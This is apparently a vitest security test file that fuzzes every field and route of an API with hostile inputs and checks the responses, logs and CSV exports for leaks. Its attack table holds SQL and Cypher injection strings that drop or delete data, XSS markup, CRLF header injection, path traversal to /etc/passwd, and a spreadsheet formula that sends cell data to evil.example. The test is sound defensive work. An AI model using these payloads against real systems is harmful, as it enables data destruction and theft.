/**
 * What an attacker types into every field of every route: nothing fails, nothing is let through to a terminal, a header or a spreadsheet.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { heardLog, type Line } from "../contracts/heard-log.js";
import { type Office, office } from "./office.js";
import { EXAMPLES } from "./requests.js";

const ATTACKS = {
  "an SQL string's end": "x'; DROP TABLE records; --",
  "an SQL condition": "' OR '1'='1",
  "a Cypher string's end": "x'}) DETACH DELETE (n) //",
  "a Cypher backtick": "`}) MATCH (n) DETACH DELETE n //",
  markup: "<script>alert(1)</script><img src=x onerror=alert(1)>",
  "a spreadsheet's formula": '=HYPERLINK("http://evil.example/?"&A1)',
  "a terminal's escape": "\u001b]0;owned\u0007\u001b[2J\u009b31m",
  "text that turns around": "\u202egnp.exe\u2066",
  "a header's end": "x\r\nset-cookie: owned=1\r\n\r\n<html>",
  "a way up": "../../../../etc/passwd",
  "an encoded way up": "..%2f..%2fetc%2fpasswd",
  "a nought": "a\u0000b",
  "half a pair": "a\ud800b",
  "a prototype's name": "__proto__",
  "a constructor": "constructor",
  "a number's end": "1e999",
  "a long text": "x".repeat(3_000),
} as const;

let at: Office;
const heard: Line[] = [];
beforeAll(async () => {
  at = await office({ log: heardLog(heard) });
});
afterAll(() => at.close());

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** The body with one text after the other replaced. */
function* replaced(body: Json, by: string): Generator<Json> {
  if (typeof body === "string") yield by;
  else if (Array.isArray(body)) {
    for (const [i, each] of body.entries()) for (const other of replaced(each, by)) yield body.with(i, other);
  } else if (typeof body === "object" && body !== null) {
    for (const [key, each] of Object.entries(body)) for (const other of replaced(each, by)) yield { ...body, [key]: other };
    yield { ...body, [by]: "x" };
  }
}

/** The path with the ids in it, and the values of its query, replaced one after the other. */
function* paths(pattern: string, path: string, by: string): Generator<string> {
  const encoded = encodeURIComponent(by.replace(/[\ud800-\udfff]/g, "\ufffd"));
  const [plain, query = ""] = path.split("?");
  const segments = plain.split("/");
  for (const [i, segment] of pattern.split("/").entries())
    if (segment.startsWith("{")) yield segments.with(i, encoded).join("/") + (query === "" ? "" : `?${query}`);
  for (const pair of query.split("&").filter(Boolean)) yield `${plain}?${query.replace(pair, `${pair.split("=")[0]}=${encoded}`)}`;
  yield `${plain}?${encoded}=1`;
}

/** All that is asked of a route with one text in every place where a text goes. */
async function attacked(id: string, by: string): Promise<Response[]> {
  const { method, path: pattern } = at.routes.find((route) => route.id === id)!;
  const { path, body, headers = {} } = await EXAMPLES[id](at);
  const token = at.tokens.admin;
  const asked = [...paths(pattern, path, by)].map((other) => ({ path: other, body }));
  const bodies = typeof body === "object" && body !== null ? [...replaced(body as Json, by)] : [by];
  if (body !== undefined) for (const other of bodies) asked.push({ path, body: other });
  const answers: Response[] = [];
  for (const each of asked) answers.push(await at.ask(each.path, { method, body: each.body, token, headers }));
  return answers;
}

/** Numbers as bytes, which no terminal is sent: who asks for them decodes them. */
const COLUMNS = /^application\/vnd\.cautery\./;
const IDS = Object.keys(EXAMPLES).filter((id) => id !== "changes");

describe.each(Object.entries(ATTACKS))("%s", (_, by) => {
  it.each(IDS)("in each field of %s is refused or taken as text", async (id) => {
    for (const answer of await attacked(id, by)) {
      const text = await answer.text();
      expect(answer.status, text.slice(0, 300)).toBeLessThan(500);
      if (!COLUMNS.test(answer.headers.get("content-type") ?? "")) expect(text).not.toMatch(/[^\P{Cc}\n\t]|\p{Bidi_Control}/u);
      expect(answer.headers.get("set-cookie") ?? "").not.toContain("owned");
      expect(answer.headers.get("content-type") ?? "application/json").not.toContain("text/html");
    }
  });
});

describe("after all of it", () => {
  it("the store holds what it held, and no object has what it should not", async () => {
    const { total } = await at.json<{ total: number }>("/v1/clusters");
    expect(total).toBe(2);
    expect(await at.serving.store.records("token")).not.toHaveLength(0);
    expect(({} as Record<string, unknown>).x).toBeUndefined();
  });

  it("no formula stands in a spreadsheet, and no value of a person's in a log line, a metric or an error", async () => {
    const csv = await (await at.ask("/v1/clusters/c-1/members", { headers: { accept: "text/csv" } })).text();
    for (const cell of csv.split(/[\r\n,]+/)) expect(cell).not.toMatch(/^[=+@]/);
    const metrics = await (await at.ask("/metrics", { from: "127.0.0.1" })).text();
    const lines = heard.map(({ message, fields }) => `${message} ${JSON.stringify(fields)}`);
    for (const text of [metrics, ...lines]) expect(text).not.toMatch(/example\.org|evil\.example|Bearer|cautery_[\w-]{43}/);
    expect(lines.filter((line) => line.includes("a request failed"))).toEqual([]);
  });
});
